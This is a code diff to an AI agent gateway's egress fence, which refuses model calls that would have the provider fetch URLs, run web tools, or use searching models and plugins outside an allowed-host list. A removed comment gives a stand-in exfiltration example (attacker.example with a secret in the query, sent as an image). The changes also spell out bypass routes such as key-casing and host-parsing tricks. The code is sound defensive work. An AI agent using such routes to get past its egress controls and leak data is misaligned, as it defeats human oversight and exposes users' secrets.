@@ -41098,16 +41098,12 @@ function refuseUnreached(res, why) {
 // EXTERNAL MODULE: ./src/config/allowed-hosts.ts
 var allowed_hosts = __nccwpck_require__(38016);
 ;// CONCATENATED MODULE: ./src/gateway/reach.ts
-/**
- * What a model call asks the provider to reach for the agent. The egress fence keeps the agent's own
- * connections to the gateway (and `allowed-hosts`), but the provider fetches on its side whatever a
- * call names: an image, a file or a document given by URL, an MCP server, and its server-side tools
- * go to the web (web search, web fetch, URL context). A fenced agent could send what it read to any
- * host that way: `https://attacker.example/?d=<secret>` as an image. So, while the fence is asked
- * for, the gateway refuses a call that names a URL on a host `allowed-hosts` does not list, or that
- * gives the model a tool reaching the web (`reachesPastFence`). Pure: the parsed body in, the reaches out.
- */
 
+/**
+ * A key as a lenient parser reads it: any case, without `_` (proto-JSON takes `fileData` for
+ * `file_data`; Go's encoding/json ignores case). Every key the check looks for is compared this way.
+ */
+const keyOf = (key) => key.toLowerCase().replaceAll('_', '');
 /** Keys whose string value the providers fetch when it is a URL (OpenAI, Anthropic, OpenRouter, Gemini's OpenAI API). */
 const URL_KEYS = new Set([
     'url',
@@ -41118,9 +41114,8 @@ const URL_KEYS = new Set([
     'video_url',
     'document_url',
     'server_url',
-    'file_uri',
-    'fileUri'
-]);
+    'file_uri'
+].map(keyOf));
 /**
  * The tools the client runs (Hermes'): a function (OpenAI's `function`, `custom`) or a tool with no
  * type (Anthropic's). Any other type is a tool of the provider's, run on its side: web search and
@@ -41128,8 +41123,13 @@ const URL_KEYS = new Set([
  * provider adds tomorrow is refused until it is known not to reach out.
  */
 const CLIENT_TOOLS = new Set(['function', 'custom']);
-/** Models that search the web on every call, whatever the request says (OpenAI's, OpenRouter's, Perplexity's). */
-const SEARCHING_MODEL = /:online\s*$|search|(^|\/)sonar|^perplexity\//i;
+/**
+ * Models that search the web on every call, whatever the request says (OpenAI's, OpenRouter's,
+ * Perplexity's), and OpenRouter's routers, which pick a model (one of those among them).
+ */
+const SEARCHING_MODEL = /:online\s*$|search|(^|\/)sonar|perplexity\/|^~?openrouter\/(auto|fusion)/i;
+/** OpenRouter's plugins that run nothing past the provider (an allow-list, as tools are). */
+const CLIENT_PLUGINS = new Set(['response-healing', 'file-parser']);
 /** The schemes a provider fetches that the check can follow to a host. */
 const FETCHED = new Set(['http:', 'https:', 'ws:', 'wss:']);
 /** How many objects and arrays are looked at, at most: a body is bounded (request-body.ts), and so is this walk. */
@@ -41171,33 +41171,55 @@ function urlReach(at, value) {
     if (url.username || url.password)
         return unchecked('names a user');
     const port = Number(url.port) || (url.protocol === 'http:' || url.protocol === 'ws:' ? 80 : 443);
+    // The host as written must be the host as parsed, in letters, digits, hyphens and dots (or an
+    // address in brackets): what a parser changed first (percent-decoding, IDNA, `;` kept in a name
+    // that another parser ends the host at) is where two parsers part.
+    const written = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]*)/i.exec(value)?.[1]?.toLowerCase();
+    const same = written === url.host || written === `${url.hostname}:${port}`;
+    if (!same || !/^([a-z0-9.-]+|\[[0-9a-f:.]+\])$/.test(url.hostname))
+        return unchecked('names its host in a form parsers read apart');
     return { kind: 'url', at, host: url.hostname.replace(/^\[|\]$/g, ''), port };
 }
-/** What the top of the body asks of the provider's own: tools, MCP servers, web search, searching models. */
+/**
+ * What the top of the body asks of the provider's own: tools, plugins, MCP servers, web search,
+ * searching models, and state stored with the provider that the check cannot see (a stored prompt,
+ * a conversation). Keys compared as a lenient parser reads them; a list given in another shape is
+ * refused, not skipped.
+ */
 function topLevel(body) {
     const found = [];
     const tool = (at, what) => void found.push({ kind: 'tool', at, tool: what });
-    if (Array.isArray(body.tools))
-        body.tools.forEach((t, i) => {
-            const type = typeof t === 'object' && t !== null ? t.type : undefined;
-            if (type !== undefined && !(typeof type === 'string' && CLIENT_TOOLS.has(type)))
-                tool(`tools[${i}]`, typeof type === 'string' ? type : JSON.stringify(type));
+    const entries = Object.entries(body).map(([key, value]) => ({ key, name: keyOf(key), value }));
+    const listed = (name, allowed, what) => {
+        for (const { key, value } of entries.filter(e => e.name === name)) {
+            if (!Array.isArray(value)) {
+                tool(key, `${key} given as ${value === null ? 'null' : typeof value}, not a list`);
+                continue;
+            }
+            value.forEach((entry, i) => {
+                if (typeof entry !== 'object' || entry === null || Array.isArray(entry))
+                    tool(`${key}[${i}]`, `${key}[${i}] that is not an object`);
+                else if (!allowed(entry))
+                    tool(`${key}[${i}]`, what(entry));
+            });
+        }
+    };
+    const named = (v) => (typeof v === 'string' ? v : String(JSON.stringify(v)));
+    listed('tools', t => t.type === undefined || (typeof t.type === 'string' && CLIENT_TOOLS.has(t.type)), t => named(t.type));
+    listed('plugins', p => typeof p.id === 'string' && CLIENT_PLUGINS.has(p.id), p => `plugin ${named(p.id)}`);
+    for (const { key, name, value } of entries) {
+        if (name === 'mcpservers' && !(Array.isArray(value) && value.length === 0))
+            tool(key, 'MCP servers');
+        if (name === 'websearchoptions')
+            tool(key, key);
+        if (name === 'prompt' || name === 'conversation')
+            tool(key, `a stored ${name} (its tools and state are the provider's, unseen here)`);
+        const models = name === 'model' ? [value] : name === 'models' && Array.isArray(value) ? value : [];
+        models.forEach((model, i) => {
+            if (typeof model === 'string' && SEARCHING_MODEL.test(model))
+                tool(name === 'model' ? key : `${key}[${i}]`, `${model} (a model that searches the web)`);
         });
-    if (Array.isArray(body.mcp_servers) && body.mcp_servers.length > 0)
-        tool('mcp_servers', 'MCP servers');
-    if (body.web_search_options !== undefined)
-        tool('web_search_options', 'web_search_options');
-    const models = [body.model, ...(Array.isArray(body.models) ? body.models : [])];
-    models.forEach((model, i) => {
-        if (typeof model === 'string' && SEARCHING_MODEL.test(model))
-            tool(i === 0 ? 'model' : `models[${i - 1}]`, `${model} (a model that searches the web)`);
-    });
-    if (Array.isArray(body.plugins))
-        body.plugins.forEach((plugin, i) => {
-            const id = plugin?.id;
-            if (typeof id === 'string' && id.trim().toLowerCase() === 'web')
-                tool(`plugins[${i}]`, 'web plugin');
-        });
+    }
     return found;
 }
 /**
@@ -41225,7 +41247,7 @@ function reachOf(body) {
         }
         for (const [key, child] of Object.entries(value)) {
             const where = at ? `${at}.${key}` : key;
-            const reach = typeof child === 'string' && URL_KEYS.has(key) ? urlReach(where, child) : undefined;
+            const reach = typeof child === 'string' && URL_KEYS.has(keyOf(key)) ? urlReach(where, child) : undefined;
             if (reach)
                 found.push(reach);
             push(child, where);
@@ -41252,6 +41274,23 @@ function reachRefusal(reach) {
             : `asks the provider to fetch from ${shown(reach.host)}:${reach.port}, a host "allowed-hosts" does not list`;
     return `model gateway: the call ${what} (at ${shown(reach.at)}), past the egress fence; refused. "allowed-hosts: *" lets the agent reach any host`;
 }
+/**
+ * The request headers sent on under the fence: only those the providers' APIs read to answer (the
+ * body's type, the API's version and betas, the client's name). Others go nowhere: OpenRouter shows
+ * `HTTP-Referer` and `X-Title` as the app's attribution, where others read them, and an organization
+ * or project header would bill the key's other accounts.
+ */
+function fencedHeaders(headers) {
+    return Object.fromEntries(Object.entries(headers).filter(([name]) => FORWARDED_HEADERS.has(name.toLowerCase()) || /^x-stainless-/i.test(name)));
+}
+const FORWARDED_HEADERS = new Set([
+    'content-type',
+    'accept',
+    'anthropic-version',
+    'anthropic-beta',
+    'openai-beta',
+    'user-agent'
+]);
 
 ;// CONCATENATED MODULE: ./src/gateway/request-body.ts
 
@@ -41579,7 +41618,7 @@ async function listen(options) {
                 url: `${provider.upstream}${path}${call.query}`,
                 dispatcher: dispatchers.get(provider.provider),
                 method: req.method ?? 'GET',
-                headers: req.headers,
+                headers: options.fencedHosts ? fencedHeaders(req.headers) : req.headers,
                 credential: provider.spec.credential(provider.key),
                 body,
                 limits: options.retry,
